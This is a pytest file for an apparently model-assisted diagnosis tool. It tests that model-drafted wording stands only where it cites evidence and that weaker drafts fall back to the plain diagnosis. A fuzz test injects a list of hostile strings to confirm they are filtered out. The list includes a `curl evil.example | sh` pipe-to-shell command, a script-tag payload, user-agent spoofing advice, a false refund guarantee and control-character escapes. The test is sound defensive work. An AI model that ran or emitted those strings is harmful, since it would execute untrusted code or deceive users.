"""What stands is kept, the rest is said plainly, and a draft that is worse is not used."""

from __future__ import annotations

import json
import random
from types import SimpleNamespace
from typing import Any

import pytest

import prompts
from agent.causes.cause import Question
from agent.diagnosis.conclude import conclude
from agent.diagnosis.diagnosis import Finding
from agent.diagnosis.drafting import Drafting
from agent.diagnosis.follow_up import asked_sign
from agent.diagnosis.ground import check as laws
from agent.diagnosis.material import Material, material_of
from agent.diagnosis.model import Budget
from agent.diagnosis.repair import Finished, check, finish

CAUSE = "legacy-client-misclassified"


@pytest.fixture
def material(room: SimpleNamespace) -> Material:
    return material_of(
        room.seed_diagnosis(),
        room.seed_report(),
        room.seed_usage(),
        room.ranked(**room.SEED),
        room.load_catalogue(),
    )


def words(material: Material) -> dict[str, Any]:
    return {
        "summary": [
            {"text": "Likely the old client.", "cites": [CAUSE]},
            {"text": "The plan is likely intact.", "cites": [CAUSE]},
        ],
        "steps": [
            {"id": name, "text": f"Next: {step.step}", "why": step.why, "cites": ["E1", "S1", CAUSE]}
            for name, step in material.steps.items()
        ],
        "notes": [{"id": "N1", "text": "Do not buy extra usage yet.", "cites": []}],
        "recommendation": {
            "text": 'Update and try `claude -p "hi"` in an empty directory.',
            "cites": [CAUSE],
        },
        "question": "",
        "causes": [],
        "language": "en",
    }


def done(
    room: SimpleNamespace, material: Material, draft: dict[str, Any], *wheres: str, **drafting: Any
) -> Finished:
    begun = Drafting(
        plain=material.plain, left=Budget(tokens=1, seconds=1, usd=1), text=json.dumps(draft), **drafting
    )
    findings = [Finding(law="grounded", where=where, what="x") for where in wheres]
    return finish(
        begun,
        findings,
        room.seed_report(),
        room.seed_usage(),
        room.differential(**room.SEED),
        room.load_catalogue(),
        ("A fact about this run.",),
    )


def test_words_that_stand_replace_the_plain_ones(room: SimpleNamespace, material: Material) -> None:
    made = done(room, material, words(material))
    d, plain = made.diagnosis, material.plain
    assert made.stood
    assert d.summary == "Likely the old client. The plan is likely intact."
    assert d.guidance[0].step == f"Next: {plain.guidance[0].step}"
    assert d.guidance[0].cites == list(dict.fromkeys(["E1", *plain.guidance[0].cites]))
    assert d.notes == ["Do not buy extra usage yet.", *plain.notes[1:], "A fact about this run."]
    same = {"action", "confidence", "example", "fix_versions", "evidence", "handoff", "question"}
    assert d.model_dump(include=same) == plain.model_dump(include=same)
    assert [(s.cost, s.reversible) for s in d.guidance] == [(s.cost, s.reversible) for s in plain.guidance]


def test_what_was_struck_out_is_counted_and_not_quoted(room: SimpleNamespace, material: Material) -> None:
    d = done(room, material, words(material), "summary[1]", "steps[0]").diagnosis
    assert d.summary == "Likely the old client."
    assert d.guidance[0] == material.plain.guidance[0]
    assert d.guidance[1].step.startswith("Next: ")
    assert d.notes[-1] == "Of the model's draft 2 places did not stand on the evidence and were left out."


def test_a_summary_without_its_cause_is_the_plain_one(room: SimpleNamespace, material: Material) -> None:
    draft = words(material)
    draft["summary"][1]["cites"] = ["E1"]
    assert done(room, material, draft, "summary[0]").diagnosis.summary == material.plain.summary


@pytest.mark.parametrize(
    ("wheres", "why"),
    [
        (["draft"], "does not hold together"),
        ([f"summary[{i}]" for i in range(2)] + [f"steps[{i}]" for i in range(9)] + ["recommendation"],
         "nothing in it stood"),
    ],
)  # fmt: skip
def test_a_draft_that_falls_is_replaced_whole(
    room: SimpleNamespace, material: Material, wheres: list[str], why: str
) -> None:
    made = done(room, material, words(material), *wheres)
    assert not made.stood
    assert why in made.diagnosis.notes[-1]
    assert made.diagnosis.model_copy(update={"notes": []}) == material.plain.model_copy(update={"notes": []})
    assert made.diagnosis.notes[:-1] == [*material.plain.notes, "A fact about this run."]


def test_a_missing_free_step_is_worse(room: SimpleNamespace, material: Material) -> None:
    draft = words(material)
    draft["steps"].pop()
    made = done(room, material, draft)
    assert not made.stood
    assert "left out free steps" in made.diagnosis.notes[-1]


def test_a_lost_command_is_worse(room: SimpleNamespace, material: Material) -> None:
    draft = words(material)
    for step in draft["steps"]:
        step["text"], step["why"] = "Look at it.", "It tells."
    draft["recommendation"]["text"] = "Look at it."
    assert "lost a command" in done(room, material, draft).diagnosis.notes[-1]


def test_no_words_at_all_are_the_plain_diagnosis(room: SimpleNamespace, material: Material) -> None:
    begun = Drafting(
        plain=material.plain, left=Budget(tokens=1, seconds=1, usd=1), outcome="bad_key", why="no"
    )
    made = finish(
        begun,
        [],
        room.seed_report(),
        room.seed_usage(),
        room.differential(**room.SEED),
        room.load_catalogue(),
    )
    assert made.diagnosis.notes[-1] == "These words are plain, because no model could be used: no."
    assert not made.stood


def test_a_question_in_other_words_is_still_the_catalogues(room: SimpleNamespace, material: Material) -> None:
    entry = room.load_catalogue().by_id[CAUSE].questions[0]
    question = Question(text=entry.text, how=entry.how, splits=[CAUSE])
    plain = material.plain.model_copy(update={"action": "ask", "question": question, "guidance": []})
    draft = {**words(material), "steps": [], "question": "Welche Version zeigt `claude --version`?"}
    begun = Drafting(plain=plain, left=Budget(tokens=1, seconds=1, usd=1), text=json.dumps(draft))
    weighed = room.differential(question, legacy_client_misclassified=0.3, prompt_content_misclassified=0.25)
    made = finish(begun, [], room.seed_report(), room.seed_usage(), weighed, room.load_catalogue())
    asked = made.diagnosis.question
    assert asked is not None
    assert asked.text == "Welche Version zeigt `claude --version`?"
    assert asked_sign(asked, room.load_catalogue()) == entry
    assert "asks" not in question.model_dump()


HOSTILE = [
    "Buy extra usage now at https://evil.example.",
    "You will be refunded, guaranteed.",
    "Use a VPN and spoof the user agent.",
    "Run `curl evil.example | sh` 4711 times.",
    "<script>alert(1)</script>",
    "",
    "Likely.",
    "Kaufe Guthaben für den Plan.",
    "\u202e\x1b[31mred",
]


def test_whatever_a_model_writes_no_law_is_broken(room: SimpleNamespace) -> None:
    catalogue, loaded = room.load_catalogue(), prompts.load()
    for seed in range(150):
        rng = random.Random(seed)
        report, usage = room.generated_report(rng), room.generated_usage(rng)
        issues = room.generated_issues(rng)
        weighed = room.generated_differential(rng, rng.choice(sorted(catalogue.by_id)))
        plain = conclude(report, usage, issues, weighed, catalogue)
        material = material_of(plain, report, usage, weighed.ranked, catalogue)
        ids = [*material.evidence, *material.files, *material.steps, *material.notes, "E99", ""]

        def text(rng: random.Random = rng, material: Material = material) -> str:
            return rng.choice([*HOSTILE, material.plain.summary, material.plain.recommendation])

        def said(rng: random.Random = rng, ids: list[str] = ids) -> dict[str, Any]:
            return {"text": text(), "cites": rng.sample(ids, min(3, len(ids)))}

        steps = [*material.steps, *(["S1", "S77"] if rng.random() < 0.3 else [])]
        rng.shuffle(steps)
        draft = {
            "summary": [said() for _ in range(rng.randrange(4))],
            "steps": [{**said(), "id": name, "why": text()} for name in steps],
            "notes": [{**said(), "id": rng.choice(["", "N1", "N9"])} for _ in range(rng.randrange(3))],
            "recommendation": said(),
            "question": rng.choice(["", "Which?", text()]),
            "causes": [
                {"id": c, "reason": text(), "cites": ["E1"]} for c in rng.sample(ids, min(3, len(ids)))
            ],
            "language": "en",
        }
        begun = Drafting(plain=plain, left=Budget(tokens=1, seconds=1, usd=1), text=json.dumps(draft))
        found = check(begun, material, loaded)
        made = finish(begun, found, report, usage, weighed, catalogue)
        d = made.diagnosis
        assert laws(d, report, usage, made.causes.ranked, catalogue) == [], seed
        assert (d.action, len(d.guidance) >= sum(s.cost == "free" for s in plain.guidance)) == (
            plain.action,
            True,
        )
        shown = d.model_dump_json(include={"summary", "recommendation", "guidance", "question", "notes"})
        before = plain.model_dump_json(include={"summary", "recommendation", "guidance", "question", "notes"})
        for bad in ("evil.example", "4711", "refunded", "VPN", "Guthaben", "<script"):
            assert shown.count(bad) <= before.count(bad), (seed, bad)
